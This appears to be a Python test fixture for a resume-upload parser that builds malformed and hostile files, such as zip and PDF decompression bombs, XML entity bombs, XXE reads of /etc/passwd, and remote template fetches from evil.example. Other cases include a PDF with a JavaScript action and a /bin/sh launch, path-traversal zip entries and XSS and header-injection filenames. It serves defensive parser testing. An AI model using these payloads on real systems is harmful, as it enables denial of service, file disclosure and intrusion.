"""Files as people and attackers send them: PDF, DOCX and what only pretends to be one; made here, none is kept."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable

import docx
from PIL import Image
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen import canvas

LINES = ("Jane Example", "Customer service representative", "Handled 80 calls a day with Zendesk")
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def pdf(draw: Callable[[canvas.Canvas], None], **options: object) -> bytes:
    file = io.BytesIO()
    page = canvas.Canvas(file, invariant=1, **options)
    draw(page)
    page.save()
    return file.getvalue()


def lines(page: canvas.Canvas, said: Iterable[str] = LINES) -> None:
    for number, line in enumerate(said):
        page.drawString(72, 750 - 20 * number, line)


def scan(page: canvas.Canvas) -> None:
    page.drawImage(ImageReader(Image.new("RGB", (60, 80), "white")), 0, 0, width=595, height=842)
    page.drawString(20, 20, "Scanned by an office machine")


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF of the objects 1, 2, …, of which 1 is the catalog; without a table, which readers rebuild."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, o) for n, o in enumerate(objects, 1))
    return b"%PDF-1.4\n" + body + b"trailer\n<< /Root 1 0 R /Size 9 >>\n%%EOF\n"


ONE_PAGE = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
)


def zipped(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def word(body: str) -> bytes:
    return zipped({"word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>".encode()})


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def document(*paragraphs: str) -> bytes:
    """A DOCX as Word writes it: header, footer, paragraphs, table."""
    made, file = docx.Document(), io.BytesIO()
    made.sections[0].header.paragraphs[0].text = "jane@example.com"
    made.sections[0].footer.paragraphs[0].text = "References on request"
    for text in paragraphs or ("Customer service",):
        made.add_paragraph(text)
    table = made.add_table(1, 2)
    table.cell(0, 0).text, table.cell(0, 1).text = "2019 to 2024", "Call center lead"
    made.save(file)
    return file.getvalue()


def encrypted() -> bytes:
    return pdf(lines, encrypt="secret")


def locked_zip() -> bytes:
    data = bytearray(word(paragraph("secret")))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


NOISE = random.Random(7).randbytes(5000)
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)


# What is meant to hurt


def overlapping() -> bytes:
    """One packed megabyte that the directory lists a hundred times."""
    data = zipped({"word/document.xml": bytes(2**20)})
    start = data.index(b"PK\x01\x02")
    entry, end = data[start : data.index(b"PK\x05\x06")], bytearray(data[data.index(b"PK\x05\x06") :])
    end[8:16] = struct.pack("<HHL", 100, 100, 100 * len(entry))
    return data[:start] + 100 * entry + bytes(end)


def lying() -> bytes:
    """Sixty megabytes that the directory calls one thousand."""
    data = zipped({"word/document.xml": b"<a>" + b" " * (60 * 2**20)})
    return data.replace(struct.pack("<L", 3 + 60 * 2**20), struct.pack("<L", 1000))


def flate_bomb() -> bytes:
    """480 megabytes of page content in two turns of Flate."""
    packer, packed = zlib.compressobj(1), b""
    for _ in range(480):
        packed += packer.compress(b" " * 2**20)
    content = zlib.compress(packed + packer.flush())
    return raw_pdf(
        *ONE_PAGE,
        b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream"
        % (len(content), content),
    )


LOOP = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>")
ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "lol"}">' for n in range(9))
HOSTILE: list[tuple[str, Callable[[], bytes], set[str]]] = [
    ("a zip that grows too far", lambda: word(" " * (60 * 2**20)), {"heavy"}),
    ("a zip that grows too fast", lambda: word(" " * (12 * 2**20)), {"heavy"}),
    ("a zip of overlapping entries", overlapping, {"heavy"}),
    ("a zip with a lying directory", lying, {"damaged", "heavy"}),
    ("a zip of too many entries", lambda: zipped({f"word/media/{n}": b"" for n in range(2001)}), {"heavy"}),
    ("a tree of a million elements", lambda: word("<w:p/>" * 1_500_000), {"blank", "heavy"}),
    ("a nest of ten thousand elements", lambda: word("<w:p>" * 10_000 + "</w:p>" * 10_000), {"damaged"}),
    (
        "an entity bomb",
        lambda: zipped({"word/document.xml": f"<!DOCTYPE d [{ENTITIES}]><d>&e8;</d>".encode()}),
        {"damaged"},
    ),
    (
        "an entity that is a file",
        lambda: zipped(
            {"word/document.xml": b'<!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd">]><t>&f;</t>'}
        ),
        {"damaged"},
    ),
    ("a PDF bomb", flate_bomb, {"heavy"}),
    (
        "a PDF of endless operators",
        lambda: pdf(lambda page: page._code.append("(a) Tj " * 600_000)),
        {"heavy"},
    ),
    ("a PDF whose pages are their own children", lambda: LOOP, {"damaged", "mute"}),
]


def acting(pages: bytes = b"1") -> bytes:
    """A PDF with words and with all that a viewer may be told to do, which says that it has so many pages."""
    content = b"BT /F1 12 Tf 72 700 Td (Customer service representative, Zendesk) Tj ET"
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
        b" /AA << /WC << /S /Launch /F (/bin/sh) >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count %b >>" % pages,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>"
        b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>] >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def endless_form() -> bytes:
    """A PDF whose page draws a form that draws itself."""
    page = ONE_PAGE[2].replace(b"/Contents", b"/Resources << /XObject << /X 5 0 R >> >> /Contents")
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >> /Length 5 >>"
    return raw_pdf(
        *ONE_PAGE[:2],
        page,
        b"<< /Length 5 >>\nstream\n/X Do\nendstream",
        form + b"\nstream\n/X Do\nendstream",
    )


def table_loop() -> bytes:
    """A PDF whose table names itself as the one before."""
    body = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    return (
        body
        + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 2 /Prev %d >>\n" % len(body)
        + (b"startxref\n%d\n%%%%EOF\n" % len(body))
    )


def nested_arrays() -> bytes:
    return raw_pdf(*ONE_PAGE, b"[" * 200_000 + b"]" * 200_000)


def climbing() -> bytes:
    """A DOCX whose parts are named to land elsewhere; what it says can be read."""
    said = f"<w:document {W}><w:body>{paragraph('Customer service, Zendesk')}</w:body></w:document>"
    names = ("../../../../etc/cron.d/hostile", "/etc/hostile", "..\\..\\hostile.txt", "word/../../hostile")
    return zipped({"word/document.xml": said.encode()} | dict.fromkeys(names, b"* * * * * root true"))


def remote_parts() -> bytes:
    """A DOCX that asks for a template and a picture from elsewhere."""
    said = f"<w:document {W}><w:body>{paragraph('Customer service, Zendesk')}</w:body></w:document>"
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return zipped({"word/document.xml": said.encode(), "word/_rels/settings.xml.rels": link.encode()})


def parameter_entities() -> bytes:
    said = b'<!DOCTYPE d [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><d>Customer service</d>'
    return zipped({"word/document.xml": said})


def zips_in_zips() -> bytes:
    inner = zipped({"0": bytes(2**20)})
    for level in range(6):
        inner = zipped({f"{level}/{number}.zip": inner for number in range(10)})
    return zipped({"word/document.xml": inner})


def both_kinds() -> bytes:
    """A PDF that is a zip, too."""
    return acting() + word(paragraph("Customer service"))


def asking_rtf() -> bytes:
    """An RTF with a template, a picture and a field from elsewhere, and an object to be run."""
    return (
        rb"{\rtf1\ansi{\*\template https://evil.example/t.dotm}Customer service, Zendesk"
        rb'{\field{\*\fldinst INCLUDEPICTURE "https://evil.example/x.png"}{\fldrslt x}}'
        rb"{\object\objautlink\objupdate{\*\objdata 01050000}{\result y}}}"
    )


def nested_rtf() -> bytes:
    return rb"{\rtf1 Customer service, " + b"{" * 100_000 + b"Zendesk" + b"}" * 100_001


def recursive() -> bytes:
    """A zip whose only part is named as a DOCX's and is a zip again, six deep."""
    inner = b"<w:document/>"
    for _ in range(6):
        inner = zipped({"word/document.xml": inner, "[Content_Types].xml": b"<Types/>"})
    return inner


def nested_tables(deep: int) -> str:
    cell = paragraph("Customer service, Zendesk")
    return "<w:tbl><w:tr><w:tc>" * deep + cell + "</w:tc></w:tr></w:tbl>" * deep


def wide_row() -> bytes:
    said = paragraph("Customer service, Zendesk")
    return word(f"{said}<w:tbl><w:tr>{'<w:tc/>' * 1_000_000}</w:tr></w:tbl>")


def entities_odt() -> bytes:
    said = b'<!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd">]><p xmlns="urn:t">Zendesk &f;</p>'
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": said})


def many_pages() -> bytes:
    def draw(page: canvas.Canvas) -> None:
        for number in range(500):
            page.drawString(72, 750, f"Customer service, Zendesk {number}")
            page.showPage()

    return pdf(draw, pageCompression=1)


def scattered() -> bytes:
    """A PDF whose letters are drawn apart and in no order: all are held against all."""
    chance = random.Random(3)

    def draw(page: canvas.Canvas) -> None:
        for sheet in range(3):
            page.drawString(72, 800, f"Customer service, Zendesk {sheet}")
            for _ in range(380):
                page.drawString(chance.randrange(600), chance.randrange(790), chance.choice("abc") * 3)
            page.showPage()

    return pdf(draw, pageCompression=1)


def vast_picture() -> bytes:
    """A PDF with a picture of 100,000 by 100,000 points that is hardly any data."""
    page = ONE_PAGE[2].replace(b"/Contents", b"/Resources << /XObject << /X 5 0 R >> >> /Contents")
    picture = b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    return raw_pdf(
        *ONE_PAGE[:2],
        page,
        b"<< /Length 24 >>\nstream\n612 0 0 792 0 0 cm /X Do\nendstream",
        picture + b" /Length 4 >>\nstream\nabcd\nendstream",
    )


def markup() -> bytes:
    return (
        b"Customer service, Zendesk. </textarea></title><script>alert(1)</script><img src=x onerror=alert(1)>"
    )


RANKED, REFUSED = True, False
# Name of the case, name of the file, its bytes, and whether jobs are ranked for it or words say why not.
UPLOADS: list[tuple[str, str, Callable[[], bytes], bool]] = [
    *((name, "resume", make, REFUSED) for name, make, _ in HOSTILE),
    ("a PDF with a password", "cv.pdf", encrypted, REFUSED),
    ("a DOCX with a password", "cv.docx", locked_zip, REFUSED),
    ("a PDF that acts", "cv.pdf", acting, RANKED),
    ("a PDF whose form draws itself", "cv.pdf", endless_form, REFUSED),
    ("a PDF whose table is a loop", "cv.pdf", table_loop, REFUSED),
    ("a PDF of nested arrays", "cv.pdf", nested_arrays, REFUSED),
    ("half a PDF", "cv.pdf", lambda: pdf(lines)[:400], REFUSED),
    ("a PDF of noise", "cv.pdf", lambda: b"%PDF-1.7\n" + NOISE, REFUSED),
    ("a scan", "cv.pdf", lambda: pdf(scan), REFUSED),
    ("a DOCX with climbing names", "cv.docx", climbing, RANKED),
    ("a DOCX that asks elsewhere", "cv.docx", remote_parts, RANKED),
    ("a DOCX of parameter entities", "cv.docx", parameter_entities, REFUSED),
    ("zips in zips", "cv.docx", zips_in_zips, REFUSED),
    ("a zip by another name", "cv.docx", lambda: zipped({"a.txt": b"Customer service"}), REFUSED),
    ("half a DOCX", "cv.docx", lambda: word(paragraph("whole"))[:-30], REFUSED),
    ("a PDF that is a zip", "cv.pdf", both_kinds, RANKED),
    ("a picture", "cv.pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(500), REFUSED),
    ("a web page", "cv.docx", lambda: b"<!DOCTYPE html><script>alert(1)</script>Customer service", REFUSED),
    ("a picture of lines", "cv.txt", lambda: b"<svg xmlns='x' onload='alert(1)'>Zendesk calls</svg>", RANKED),
    ("an RTF", "cv.doc", lambda: rb"{\rtf1 {\object\objdata 0105} Customer service, Zendesk}", RANKED),
    ("an RTF that asks elsewhere", "cv.rtf", asking_rtf, RANKED),
    ("an RTF of 100,000 groups in groups", "cv.rtf", nested_rtf, RANKED),
    ("an RTF of groups without end", "cv.rtf", lambda: rb"{\rtf1 Zendesk" + b"{" * (5 * 2**20 - 20), RANKED),
    ("an RTF of letters in figures", "cv.rtf", lambda: rb"{\rtf1 Zendesk " + rb"\'41 " * 200_000, RANKED),
    (
        "an RTF of characters by number",
        "cv.rtf",
        lambda: rb"{\rtf1 Zendesk " + rb"\u-10179 ?" * 200_000,
        RANKED,
    ),
    (
        "an RTF of rows without end",
        "cv.rtf",
        lambda: rb"{\rtf1 Zendesk \trowd " + rb"a\cell " * 200_000,
        RANKED,
    ),
    ("an RTF of fonts", "cv.rtf", lambda: rb"{\rtf1{\fonttbl" + rb"\f1" * 300_000 + b"}Zendesk}", RANKED),
    ("an RTF that counts too far", "cv.rtf", lambda: rb"{\rtf1 {\pict\bin999999999 } Zendesk}", REFUSED),
    ("ten thousand parts", "cv.docx", lambda: zipped({f"word/{n}.xml": b"" for n in range(10_000)}), REFUSED),
    ("an archive of its own kind", "cv.docx", recursive, REFUSED),
    ("tables in tables", "cv.docx", lambda: word(nested_tables(60)), RANKED),
    ("too many tables in tables", "cv.docx", lambda: word(nested_tables(3_000)), REFUSED),
    ("a row of a million cells", "cv.docx", wide_row, RANKED),
    ("an ODT of entities", "cv.odt", entities_odt, REFUSED),
    ("a PDF of a billion pages", "cv.pdf", lambda: acting(b"1000000000"), RANKED),
    ("a PDF of five hundred pages", "cv.pdf", many_pages, RANKED),
    ("a PDF of letters everywhere", "cv.pdf", scattered, RANKED),
    ("a PDF of a picture too large", "cv.pdf", vast_picture, REFUSED),
    ("a spreadsheet", "cv.xlsx", lambda: zipped({"xl/workbook.xml": b"<x/>"}), REFUSED),
    ("a Pages file", "cv.pages", lambda: zipped({"Index/Document.iwa": NOISE}), REFUSED),
    ("an archive", "cv.zip", lambda: zipped({"cv.pdf": acting()}), REFUSED),
    ("UTF-16 without a mark", "cv.txt", lambda: "Customer service, Zendesk".encode("utf-16-be"), RANKED),
    ("zeros between words", "cv.txt", lambda: b"Customer\0service\0Zendesk " * 50, REFUSED),
    ("an old Word file", "cv.doc", lambda: OLE + "WordDocument".encode("utf-16-le"), REFUSED),
    ("a program", "cv.txt", lambda: b"\x7fELF\x02\x01" + bytes(range(256)), REFUSED),
    ("nothing", "cv.pdf", lambda: b"", REFUSED),
    ("zeros", "cv.pdf", lambda: bytes(2**20), REFUSED),
    ("five megabytes of spaces", "cv.txt", lambda: b" " * (5 * 2**20), REFUSED),
    ("a byte too many", "cv.txt", lambda: b"x" * (5 * 2**20 + 1), REFUSED),
    ("far too many bytes", "cv.txt", lambda: b"x" * (7 * 2**20), REFUSED),
    ("one word without end", "cv.txt", lambda: b"zendesk" * 700_000, REFUSED),
    ("lines without words", "cv.txt", lambda: b"-\n" * 2_000_000, REFUSED),
    ("letters apart without end", "cv.txt", lambda: b"C A L L " * 600_000, REFUSED),
    ("words cut without end", "cv.txt", lambda: b"Zendesk " + b"cus-\ntomer-\n" * 400_000, RANKED),
    ("combining characters", "cv.txt", ("Zendesk " + "e\u0301" * 1_000_000).encode, RANKED),
    ("an escape for terminals", "cv.txt", lambda: b"\x1b]0;hostile\x07 customer service, Zendesk", REFUSED),
    (
        "another spelling of markup",
        "cv.txt",
        lambda: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- Zendesk",
        RANKED,
    ),
    ("half a pair in UTF-16", "cv.txt", lambda: b"\xff\xfe" + b"Z\0e\0\x00\xd8" * 50, REFUSED),
    ("markup", "cv.txt", markup, RANKED),
]
NAMES = (
    "../../x<script>alert(1)</script>.pdf",
    "..\\..\\boot.ini",
    "/etc/passwd",
    "'><x-hostile>.pdf",
    "\u202efdp.exe",
    "a\x01\x1b[31m\x7f.pdf",
    "n" * 5_000 + ".pdf",
    "cv.pdf%0D%0AX-Hostile: 1",
    "{{ config }}.pdf",
    "%00%2e%2e%2f.pdf",
)
